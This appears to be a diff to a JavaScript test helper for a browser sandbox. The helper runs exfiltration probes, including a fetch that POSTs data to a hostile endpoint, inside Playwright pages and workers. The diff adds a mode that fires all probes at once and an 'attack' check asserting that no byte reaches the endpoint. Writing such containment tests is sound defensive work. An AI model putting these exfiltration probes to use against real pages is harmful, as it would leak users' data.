@@ -1,6 +1,8 @@
 // Every way that we know of in which a page or a worker can send something out without leaving the page. Each probe is a function that runs in the
 // browser, takes the hostile endpoint's address for itself, and tries; whether it got through is counted at the endpoint, not believed here.
 
+import assert from "node:assert/strict";
+
 /** Probes that run in the page. */
 export const pageProbes = {
   "page-fetch": (url) => fetch(`${url}/x`, { method: "POST", body: "data" }),
@@ -135,19 +137,30 @@ export const workerProbes = {
 };
 
 /**
- * Runs probes one after the other where `target` is: a playwright Page or Worker. A probe that throws, or that hears nothing within the time, is over:
- * only the endpoint knows whether it got through.
+ * Runs probes where `target` is: a playwright Page or Worker; one after the other, or all together, which takes no longer than the longest. A probe that throws,
+ * or that hears nothing within the time, is over: only the endpoint knows whether it got through.
  */
-export async function probe(target, probes, url, { patience = 700 } = {}) {
-  for (const [name, attempt] of Object.entries(probes)) {
+export async function probe(target, probes, url, { patience = 700, together = false } = {}) {
+  const list = Object.entries(probes).map(([name, attempt]) => [attempt.toString(), `${url}${name}`]);
+  for (const part of together ? [list] : list.map((one) => [one])) {
     await target.evaluate(
-      async ([code, address, wait]) => {
-        const run = (0, eval)(`(${code})`);
-        await Promise.race([(async () => run(address))().catch(() => {}), new Promise((resolve) => setTimeout(resolve, wait))]);
+      async ([attempts, wait]) => {
+        const run = async ([code, address]) => (0, eval)(`(${code})`)(address);
+        const over = new Promise((resolve) => setTimeout(resolve, wait));
+        await Promise.race([Promise.all(attempts.map((attempt) => run(attempt).catch(() => {}))), over]);
       },
-      [attempt.toString(), `${url}${name}`, patience],
+      [part, patience],
     );
   }
   // Links, images and frames report nothing: give the last of them time to arrive.
   await new Promise((resolve) => setTimeout(resolve, 500));
+}
+
+/** Every probe at once, from the page and from each of its workers: asserts that not a byte arrives at the endpoint. */
+export async function attack(page, endpoint, when) {
+  const workers = page.workers();
+  assert.ok(workers.length > 0, `no worker that computes: ${when}`);
+  await Promise.all([probe(page, pageProbes, endpoint.url, { together: true }), ...workers.map((worker) => probe(worker, workerProbes, endpoint.url, { together: true }))]);
+  assert.deepEqual(endpoint.reached(), {}, when);
+  assert.equal(endpoint.bytes(), 0, when);
 }
